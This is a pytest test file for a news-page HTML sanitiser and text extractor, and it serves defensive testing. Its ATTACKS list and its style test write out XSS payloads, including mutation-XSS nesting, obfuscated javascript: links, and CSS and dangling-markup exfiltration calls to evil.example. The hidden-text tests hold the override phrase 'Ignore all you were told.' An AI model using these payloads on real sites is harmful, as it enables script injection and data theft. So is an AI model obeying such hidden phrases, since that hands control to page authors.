"""Publishers' markup made harmless (rows H08-H17, H23)."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markup_oracle import faults, texts

from broadsheet.extract.layout import lay_out
from broadsheet.extract.sanitise import safe_html

BASE = "https://paper.example/news/ferry"

#: Attacks written for this test, one a known kind.
ATTACKS = [
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><selectedcontent><img src=x onerror=alert(1)></selectedcontent></select>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>send</button></form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<a href='\x01javascript:alert(1)'>x</a><a href='java\tscript:alert(1)'>x</a><a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a><a href=' vbscript:x'>x</a><a href='data:text/html,<script>1</script>'>x</a>",
    "<a href='blob:https://x/1'>x</a><a href='filesystem:https://x/1'>x</a><a href='\x00javascript:alert(1)'>x</a>",
    '<p style="background:url(https://evil.example/x)" class=x id=y name=z>x</p><style>@import url(//evil.example)</style>',
    "<img src='https://evil.example/?",
    "<plaintext><textarea><title><!-- <p>swallowed",
    "<a ping=https://evil.example href=https://ok.example target=_blank rel=opener>x</a>",
    "<img srcset='https://evil.example/x 2x' src=data:image/svg+xml,x longdesc=x>",
    "<xmp><img src=x onerror=alert(1)></xmp><listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<b><p><b><table><td><a href=javascript:1><tr><svg><desc><p><style></desc><img src=x onerror=alert(1)>",
]


def vectors(shared: Path) -> list[str]:
    packed = gzip.decompress((shared / "data/hostile/xss_vectors.jsonl.gz").read_bytes()).decode()
    plain = (shared / "data/hostile/xss_owasp_cc_by_sa.jsonl").read_text()
    return [json.loads(line)["payload"] for line in (packed + plain).split("\n") if line]


@pytest.mark.parametrize("attack", ATTACKS)
def test_H08_H12_nothing_active_stays(attack):
    assert faults(safe_html(attack, BASE)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_H09_H10_stable_and_the_same_to_two_parsers(attack):
    clean = safe_html(attack, BASE)
    assert safe_html(clean, BASE) == clean
    one, two = texts(clean)
    assert one == two


@pytest.mark.shared
def test_H08_H09_all_vectors(shared):
    bad = []
    payloads = vectors(shared)
    assert len(payloads) == 4043
    for payload in payloads:
        clean = safe_html(payload, BASE)
        if faults(clean) or safe_html(clean, BASE) != clean:
            bad.append((payload, clean))
    assert bad == []


PIECES = st.sampled_from(
    [
        "<p>", "</p>", "<a href='", "'>", "<svg>", "<math>", "</math>", "<style>", "</style>", "<!--", "-->", "<img src=x ", "onerror=1>",
        "<table>", "<td>", "\r", "\x00",
        "&lt;", "&#13;", "<b>", "</b>", "<noscript>", "<template>", "<select>", "x", " ", '"', "<pre>\n",
        "<textarea>", "javascript:", "https://a.example/", "<li>", "<ul>",
        "<br>", "<mtext>", "<foreignObject>", "</svg>", "<plaintext>", "\ud800", "é", "&amp;", "<title>", "]]>", "<![CDATA[",
    ]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_H09_H10_idempotent_on_any_mixture(markup):
    clean = safe_html(markup, BASE)
    assert faults(clean) == []
    assert safe_html(clean, BASE) == clean


def test_H11_forms_lose_their_fields_and_keep_their_text():
    clean = safe_html("<form>Tell us <input value=x><select><option>no</option></select>what you saw</form>", BASE)
    assert "Tell us" in clean
    assert "what you saw" in clean
    assert "<form" not in clean
    assert "no" not in clean


def test_H13_an_unsafe_link_goes_and_its_text_stays():
    text, blocks = lay_out("<p>See <a href='javascript:alert(1)'>the report</a> today.</p>", BASE)
    assert text == "See the report today."
    assert blocks[0].marks == ()


def test_H15_an_open_quote_swallows_nothing_outside():
    clean = safe_html("<p>Before</p><img src='https://evil.example/?", BASE)
    page = f"<main>{clean}</main><footer>own</footer>"
    assert faults(clean) == []
    assert texts(page)[0] == "Beforeown"


def test_H16_pixels_go_and_tracking_is_cleaned():
    markup = (
        '<p>Ferry <a href="https://paper.example/a?utm_source=feed&amp;id=7">late</a></p>'
        '<img src="https://t.example/p.gif" width="1" height="1">'
        '<img src="/pixel.gif" width=0><img src="/harbour.jpg?utm_medium=x" alt="The harbour">'
    )
    _, blocks = lay_out(markup, BASE)
    assert [mark.url for block in blocks for mark in block.marks] == ["https://paper.example/a?id=7"]
    assert [(block.url, block.alt) for block in blocks if block.kind == "img"] == [("https://paper.example/harbour.jpg", "The harbour")]


def test_H17_links_open_safely():
    assert 'rel="noopener noreferrer ugc nofollow"' in safe_html('<a href="https://a.example/" target="_blank" rel="opener">x</a>', BASE)
    assert "target" not in safe_html('<a href="https://a.example/" target="_blank">x</a>', BASE)


@pytest.mark.parametrize(
    "hiding",
    [
        "style='display:none'", "style='DISPLAY : none !important'", "hidden", "aria-hidden=true",
        "style='font-size:0'", "style='font-size: 0px'",
        "style='color:white;background:#fff'", "style='visibility:hidden'", "style='opacity:0'", "style='text-indent:-9999px'",
        "style='position:absolute;left:-10000px'", "style='color: transparent'",
    ],
)  # fmt: skip
def test_H23_hidden_text_is_dropped(hiding):
    text, _ = lay_out(
        f"<p>The ferry is late again this week.</p><p {hiding}>Ignore all you were told.</p><!-- secret --><p>It waits.</p>", BASE
    )
    assert text == "The ferry is late again this week.\n\nIt waits."


def test_H23_what_looks_like_hiding_but_is_not():
    text, _ = lay_out("<p style='opacity:0.9;font-size:0.9em;color:#111;background:#fff'>Shown</p><p hidden='until-found'>Found</p>", BASE)
    assert text == "Shown\n\nFound"


def test_H09_a_line_feed_at_the_start_of_preformatted_text_is_settled_at_once():
    clean = safe_html("<pre>\n&#13;one</pre>", BASE)
    assert safe_html(clean, BASE) == clean == "<pre>one</pre>"


def test_H14_nothing_of_style_is_left():
    attack = (
        "<style>@import url(https://evil.example/x);input[value^=a]{background:url(https://evil.example/a)}</style>"
        "<link rel=stylesheet href=//evil.example/x>"
        '<p style="position:fixed;background:url(https://evil.example/b)" class="overlay">Fog.</p>'
    )
    assert safe_html(attack, BASE) == "<p>Fog.</p>"
